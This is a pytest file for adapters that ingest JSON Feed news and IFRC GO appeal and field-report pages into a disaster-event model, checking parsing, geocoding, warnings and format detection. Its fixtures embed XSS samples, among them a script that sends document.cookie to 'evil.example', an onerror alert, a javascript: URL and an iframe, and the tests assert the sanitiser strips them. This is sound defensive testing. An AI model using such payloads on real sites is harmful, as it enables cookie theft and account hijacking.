"""The JSON Feed and IFRC GO adapters, on documents built here in the shapes the two publishers
use (JSON Feed 1.1 as jsonfeed.org specifies it; IFRC GO API v2 ``appeal`` and ``field_report``
pages as goadmin.ifrc.org answers them), and their detection beside the other JSON adapters."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

import pytest

from feeds.contract import DocumentRefused, FeedConfig, ParseResult
from feeds.geocode import country_centre
from feeds.model import Event, Kind, Severity
from feeds.sources import detect, get_source
from workers.ingest import parse_document, prepare

FETCHED = datetime(2024, 6, 1, 12, tzinfo=UTC)
NEWS = FeedConfig(id="relief-news", url="https://news.example.org/feed.json")
GO_APPEALS = FeedConfig(id="ifrc-appeals", url="https://goadmin.ifrc.org/api/v2/appeal/?limit=50")
GO_REPORTS = FeedConfig(id="ifrc-reports", url="https://goadmin.ifrc.org/api/v2/field_report/?limit=50")


def t(text: str) -> datetime:
    return datetime.fromisoformat(text.replace("Z", "+00:00"))


def body(doc: Any) -> bytes:
    return json.dumps(doc, indent=2, ensure_ascii=False).encode()


def parse(fmt: str, doc: Any, feed: FeedConfig) -> ParseResult:
    return get_source(fmt).parse(body(doc) if not isinstance(doc, bytes) else doc, feed, FETCHED)


def by_id(result: ParseResult, event_id: str) -> Event:
    matches = [e for e in result.events if e.id == event_id]
    assert len(matches) == 1, f"{event_id}: {[e.id for e in result.events]}"
    return matches[0]


def json_feed() -> dict[str, Any]:
    return {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "Relief Desk",
        "home_page_url": "https://news.example.org/",
        "feed_url": "https://news.example.org/feed.json",
        "items": [
            {
                "id": "https://news.example.org/2024/05/27/cyclone-remal",
                "url": "https://news.example.org/2024/05/27/cyclone-remal",
                "title": "Cyclone Remal makes landfall near Mongla, Bangladesh",
                "content_html": "<p>Storm surge of <b>2.5 m</b> reported in Khulna.</p>"
                                "<script>document.location='https://evil.example/'+document.cookie</script>"
                                "<img src=x onerror=alert(1)><p>Evacuations continue &amp; shelters open.</p>",
                "summary": "Landfall near Mongla.",
                "date_published": "2024-05-26T20:30:00+06:00",
                "date_modified": "2024-05-27T03:00:00Z",
                "tags": ["cyclone", "Bangladesh", {"not": "a tag"}],
                "authors": [{"name": "Desk <i>Editor</i>", "url": "https://news.example.org/desk"}],
            },
            {
                "id": "item-2",
                "url": "https://news.example.org/2024/05/28/briefing",
                "title": "Morning briefing",
                "content_text": "Aid convoys reached Patuakhali overnight.",
                "date_published": "2024-05-28T06:00:00Z",
            },
            {
                "id": 3,
                "url": "javascript:alert(1)",
                "title": "Undated note from the field",
                "content_text": "Teams are assessing damage.",
            },
        ],
    }


def appeals_page() -> dict[str, Any]:
    return {
        "count": 3210,
        "next": "https://goadmin.ifrc.org/api/v2/appeal/?limit=3&offset=3",
        "previous": None,
        "results": [
            {
                "id": 5123, "aid": "4512", "name": "Bangladesh: Monsoon Floods",
                "dtype": {"id": 12, "name": "Flood", "summary": ""},
                "atype": 1, "atype_display": "Emergency Appeal", "status": 0, "status_display": "Active",
                "code": "MDRBD032", "sector": "", "num_beneficiaries": 250000,
                "amount_requested": 9500000.0, "amount_funded": 1830000.5,
                "start_date": "2024-06-20T00:00:00Z", "end_date": "2025-06-30T00:00:00Z",
                "created_at": "2024-06-21T08:14:00.123456Z", "modified_at": "2024-07-02T10:00:00Z",
                "event": 6801, "needs_confirmation": False,
                "country": {"iso": "BD", "iso3": "BGD", "id": 20, "name": "Bangladesh", "society_name": "Bangladesh Red Crescent Society", "region": 2},
                "region": {"id": 2, "region_name": "Asia Pacific"},
            },
            {
                "id": 5124, "aid": "4513", "name": "Philippines: Typhoon Carina <script>x</script>",
                "dtype": {"id": 4, "name": "Cyclone"}, "atype": 0, "atype_display": "DREF",
                "status_display": "Active", "code": "MDRPH055", "num_beneficiaries": "12000",
                "amount_requested": "480000", "amount_funded": None,
                "start_date": "2024-07-25T00:00:00Z", "end_date": "2024-10-31T00:00:00Z",
                "event": 6844, "country": {"iso": "PH", "iso3": "PHL", "name": "Philippines"}, "region": 2,
            },
            {
                "id": 5125, "aid": "4514", "name": "Atlantis: Epidemic",
                "dtype": {"id": 1, "name": "Epidemic"}, "atype_display": "DREF", "code": "MDRXX001",
                "start_date": "2024-05-01", "country": {"iso": "XX", "iso3": "XXX", "name": "Atlantis"},
            },
        ],
    }


def reports_page() -> dict[str, Any]:
    return {
        "count": 2,
        "next": None,
        "previous": None,
        "results": [
            {
                "id": 16587, "summary": "Türkiye - Earthquakes",
                "description": "<p>A magnitude 7.8 earthquake struck <strong>Kahramanmaraş</strong> at 04:17.</p>"
                               "<iframe src='https://evil.example'></iframe>",
                "dtype": {"id": 2, "name": "Earthquake"},
                "countries": [{"iso": "TR", "iso3": "TUR", "name": "Türkiye"}, {"iso": "SY", "iso3": "SYR", "name": "Syrian Arab Republic"}],
                "districts": [{"id": 1, "name": "Kahramanmaraş"}, {"id": 2, "name": "Hatay"}, 17],
                "event": 6187, "status": 9,
                "num_dead": 2316, "num_injured": 13293, "num_affected": None, "gov_num_dead": "2379",
                "gov_num_injured": 14483,
                "start_date": "2023-02-06T01:17:00Z", "report_date": "2023-02-06T10:00:00Z",
                "created_at": "2023-02-06T11:22:33.000000Z", "updated_at": "2023-02-07T08:00:00Z",
            },
            {
                "id": 16601, "summary": "Kenya: cholera outbreak in Garissa",
                "description": "Cases rising in Dadaab camps.",
                "dtype": {"id": 1, "name": "Epidemic"},
                "countries": [{"iso": "KE", "iso3": "KEN", "name": "Kenya"}],
                "districts": [], "num_affected": 1200,
                "start_date": None, "report_date": "2023-03-01T00:00:00Z", "created_at": "2023-03-01T09:00:00Z",
            },
        ],
    }


# --- JSON Feed ----------------------------------------------------------------------------------


def test_json_feed_items_are_news_read_like_rss() -> None:
    result = parse("jsonfeed", json_feed(), NEWS)
    assert len(result.events) == 3
    cyclone, briefing, undated = result.events
    assert cyclone.kind is Kind.CYCLONE  # hazard words in the title refine news, as for RSS
    assert briefing.kind is Kind.NEWS and undated.kind is Kind.NEWS
    assert cyclone.title == "Cyclone Remal makes landfall near Mongla, Bangladesh"
    assert cyclone.time == t("2024-05-26T14:30:00Z") and cyclone.updated == t("2024-05-27T03:00:00Z")
    assert cyclone.text == "Storm surge of 2.5 m reported in Khulna. Evacuations continue & shelters open."
    assert "evil" not in cyclone.text and "<" not in cyclone.text and "cookie" not in cyclone.text
    assert cyclone.extra["tags"] == ["cyclone", "Bangladesh"] and cyclone.extra["authors"] == ["Desk Editor"]
    assert cyclone.link == "https://news.example.org/2024/05/27/cyclone-remal"
    assert cyclone.lat is None and cyclone.placed_by is None  # the pipeline geocodes news text
    assert briefing.text == "Aid convoys reached Patuakhali overnight." and briefing.updated is None
    assert undated.time == FETCHED and undated.link is None
    assert any("no date" in w for w in undated.warnings) and any("url" in w for w in undated.warnings)
    assert undated.id.startswith("jsonfeed:") and undated.extra["guid"] == "3"
    for event in result.events:
        Event.from_json(event.to_json())


def test_json_feed_ids_are_stable_across_polls() -> None:
    first = parse("jsonfeed", json_feed(), NEWS)
    again = get_source("jsonfeed").parse(body(json_feed()), NEWS, datetime(2024, 6, 1, 12, 5, tzinfo=UTC))
    assert [e.id for e in first.events] == [e.id for e in again.events]
    assert [e.fingerprint() for e in first.events[:2]] == [e.fingerprint() for e in again.events[:2]]


def test_json_feed_news_is_geocoded_by_the_pipeline_like_rss() -> None:
    doc = json_feed()
    prepared = prepare(parse_document(body(doc), NEWS, FETCHED), NEWS, FETCHED)
    cyclone = prepared.events[0]
    assert cyclone.placed_by == "gazetteer" and cyclone.extra["geocode"]["name"]


def test_json_feed_version_1_0_and_bad_items() -> None:
    doc = {"version": "https://jsonfeed.org/version/1", "items": [
        "not an object", None, {"id": None, "title": {"x": 1}, "content_text": ["no"], "url": 5},
        {"id": "b", "title": "x" * 500_000, "date_published": "2024-13-45T99:00:00Z"},
        {"id": "c", "content_html": "<p>" + "flood " * 100_000 + "</p>", "date_published": 1716800000},
    ]}
    result = parse("jsonfeed", doc, NEWS)
    assert [e.extra["guid"] for e in result.events] == ["b", "c"]
    long_title, long_text = result.events
    assert len(long_title.title) <= 300 and long_title.time == FETCHED
    assert any("refused" in w for w in long_title.warnings)
    assert len(long_text.text) <= 4000 and long_text.title.startswith("flood")
    assert any("2 of 5 items are not objects" in w for w in result.warnings)
    assert any("item 3 is empty" in w for w in result.warnings)


@pytest.mark.parametrize("doc, reason", [
    ({"version": "https://jsonfeed.org/version/1.1", "items": "nope"}, "no items list"),
    ({"version": "https://jsonfeed.org/version/1.1"}, "no items list"),
    ({"version": "https://example.org/v9", "items": []}, "not a JSON Feed"),
    ({"version": True, "items": []}, "not a JSON Feed"),
    ([1, 2, 3], "not a JSON Feed"),
    (b'{"version": "https://jsonfeed.org/version/1.1", "items": [', "not valid JSON"),
])
def test_json_feed_hostile_documents_are_refused_in_one_line(doc: Any, reason: str) -> None:
    with pytest.raises(DocumentRefused) as info:
        parse("jsonfeed", doc, NEWS)
    assert reason in str(info.value) and "\n" not in str(info.value) and len(str(info.value)) < 200


# --- IFRC GO ------------------------------------------------------------------------------------


def test_ifrc_appeals_are_country_level_hazard_events() -> None:
    result = parse("ifrc-go", appeals_page(), GO_APPEALS)
    flood = by_id(result, "ifrc-go:appeal:4512")
    assert flood.title == "Appeal: Bangladesh: Monsoon Floods (Flood)"
    assert flood.kind is Kind.FLOOD and flood.severity is Severity.UNKNOWN
    assert flood.time == t("2024-06-20T00:00:00Z") and flood.updated == t("2024-07-02T10:00:00Z")
    centre = country_centre("BGD")
    assert centre is not None and (flood.lat, flood.lon) == (centre[2], centre[3])
    assert flood.placed_by == "country-centroid" and flood.extra["precision"] == "country"
    assert flood.place == "Bangladesh" and flood.extra["country"] == "BD" and flood.extra["countries"] == ["BGD"]
    assert flood.extra["amount_requested"] == 9500000.0 and flood.extra["num_beneficiaries"] == 250000
    assert flood.extra["code"] == "MDRBD032" and flood.extra["region"] == "Asia Pacific"
    assert flood.extra["created_at"] == "2024-06-21T08:14:00.123456Z"
    assert flood.link == "https://go.ifrc.org/emergencies/6801"
    assert flood.text.startswith("Emergency Appeal, Active. Requested 9,500,000 CHF, funded 1,830,000 CHF")
    typhoon = by_id(result, "ifrc-go:appeal:4513")
    assert typhoon.kind is Kind.CYCLONE and typhoon.title == "Appeal: Philippines: Typhoon Carina (Cyclone)"
    assert typhoon.extra["num_beneficiaries"] == 12000 and "amount_funded" not in typhoon.extra
    nowhere = by_id(result, "ifrc-go:appeal:4514")
    assert nowhere.kind is Kind.EPIDEMIC and nowhere.lat is None and nowhere.placed_by is None
    assert any("no known country" in w for w in nowhere.warnings)
    assert any("3 of 3210 results" in w and "not read" in w for w in result.warnings)
    assert result.follow == []  # the next page is never followed
    for event in result.events:
        Event.from_json(event.to_json())


def test_ifrc_field_reports_keep_their_dates_and_figures() -> None:
    result = parse("ifrc-go", reports_page(), GO_REPORTS)
    quake = by_id(result, "ifrc-go:field-report:16587")
    assert quake.title == "Field report: Türkiye - Earthquakes"  # the summary already names the type
    assert quake.kind is Kind.EARTHQUAKE
    assert quake.time == t("2023-02-06T01:17:00Z") and quake.updated == t("2023-02-07T08:00:00Z")
    assert quake.extra["report_date"] == "2023-02-06T10:00:00Z"
    assert quake.extra["created_at"] == "2023-02-06T11:22:33.000000Z"
    assert quake.placed_by == "country-centroid" and quake.extra["precision"] == "country"
    assert quake.extra["country"] == "TR" and quake.extra["countries"] == ["TUR", "SYR"]
    assert quake.extra["districts"] == ["Kahramanmaraş", "Hatay"]
    assert quake.extra["figures"] == {"num_dead": 2316, "num_injured": 13293, "gov_num_dead": 2379,
                                      "gov_num_injured": 14483}
    assert quake.text == "A magnitude 7.8 earthquake struck Kahramanmaraş at 04:17."
    assert quake.link == "https://go.ifrc.org/field-reports/16587"
    cholera = by_id(result, "ifrc-go:field-report:16601")
    assert cholera.title == "Field report: Kenya: cholera outbreak in Garissa (Epidemic)"
    assert cholera.kind is Kind.EPIDEMIC and cholera.time == t("2023-03-01T00:00:00Z")
    assert any("no start_date; time is report_date" in w for w in cholera.warnings)
    assert not any("not read" in w for w in result.warnings)  # the last page says nothing of paging


def test_ifrc_country_placement_survives_the_pipeline() -> None:
    prepared = prepare(parse_document(body(reports_page()), GO_REPORTS, FETCHED), GO_REPORTS, FETCHED)
    quake = next(e for e in prepared.events if e.id == "ifrc-go:field-report:16587")
    assert quake.placed_by == "country-centroid" and quake.place == "Türkiye"


def test_ifrc_bad_results_are_skipped_with_a_reason() -> None:
    page = {"count": 6, "next": None, "results": [
        "text", 7, {"unrelated": True},
        {"aid": {"x": 1}, "name": "No id", "start_date": "2024-01-01"},
        {"aid": "77", "name": "No date", "dtype": {"name": "Flood"}, "start_date": "not a date"},
        {"id": 9, "summary": "ok" * 100_000, "dtype": "Flood", "countries": "BD", "districts": {"a": 1},
         "report_date": "2024-02-02", "num_dead": "many", "description": 12},
    ]}
    result = parse("ifrc-go", page, GO_REPORTS)
    assert [e.id for e in result.events] == ["ifrc-go:field-report:9"]
    odd = result.events[0]
    assert len(odd.title) <= 300 and odd.kind is Kind.OTHER and odd.lat is None
    assert odd.extra.get("figures") is None and odd.extra.get("districts") is None
    assert any("3 of 6 results are not appeals or field reports" in w for w in result.warnings)
    assert any("result 4 skipped: appeal has no aid" in w for w in result.warnings)
    assert any("result 5 skipped: no readable start_date or created_at" in w for w in result.warnings)


@pytest.mark.parametrize("doc, reason", [
    ({"detail": "Invalid page."}, "IFRC GO API error: Invalid page."),
    ({"count": 1, "results": {"aid": "1"}}, "not an IFRC GO API page"),
    ({"detail": "x" * 10_000 + "\n\nTraceback"}, "IFRC GO API error"),
    ([{"aid": "1"}], "not an IFRC GO API page"),
    (b'{"count": 1, "results": [{"aid": ', "not valid JSON"),
])
def test_ifrc_hostile_documents_are_refused_in_one_line(doc: Any, reason: str) -> None:
    with pytest.raises(DocumentRefused) as info:
        parse("ifrc-go", doc, GO_APPEALS)
    assert reason in str(info.value) and "\n" not in str(info.value) and len(str(info.value)) < 220


# --- detection ----------------------------------------------------------------------------------


def test_each_new_format_is_detected_from_the_document() -> None:
    assert detect(body(json_feed())).name == "jsonfeed"
    assert detect(body(appeals_page())).name == "ifrc-go"
    assert detect(body(reports_page())).name == "ifrc-go"
    # Without the publisher's host in the first 4 KiB: still recognised by their fields.
    minimal_feed = {"version": "1.1", "title": "x", "home_page_url": "https://a.example/", "items": []}
    assert detect(body(minimal_feed)).name == "jsonfeed"
    page = reports_page()
    for record in page["results"]:
        record.pop("description")
    assert detect(body(page)).name == "ifrc-go"


def test_a_news_feed_that_links_reliefweb_stays_a_json_feed() -> None:
    doc = json_feed()
    doc["items"][1]["content_text"] = "See https://reliefweb.int/disaster/fl-2024-000089-bgd and data from goadmin.ifrc.org"
    assert detect(body(doc)).name == "jsonfeed"


def test_others_keep_their_documents() -> None:
    reliefweb = {"href": "https://api.reliefweb.int/v1/disasters", "totalCount": 1, "count": 1, "data": [
        {"id": "52431", "fields": {"name": "Bangladesh: Floods - Jun 2024", "glide": "FL-2024-000089-BGD",
                                   "description": "IFRC appeal: https://go.ifrc.org/emergencies/6801"}}]}
    assert detect(body(reliefweb)).name == "reliefweb"
    socrata = [{":id": "row-1", "date": "2024-01-01T00:00:00.000", "latitude": "47.6", "longitude": "-122.3",
                "results": "ok", "dtype": "x"}]
    assert detect(body(socrata)).name == "socrata"
    usgs = {"type": "FeatureCollection", "metadata": {"url": "https://earthquake.usgs.gov/x", "title": "results"},
            "features": []}
    assert detect(body(usgs)).name == "usgs-geojson"
    nws = {"@context": ["https://geojson.org/geojson-ld/geojson-context.jsonld", {"wx": "https://api.weather.gov/ontology#"}],
           "type": "FeatureCollection", "features": [], "title": "Current watches, warnings, and advisories"}
    assert detect(body(nws)).name == "nws-geojson"
    assert get_source("ifrc-go").sniff(json.dumps(reliefweb)) == 0
    assert get_source("jsonfeed").sniff(json.dumps(reliefweb)) == 0
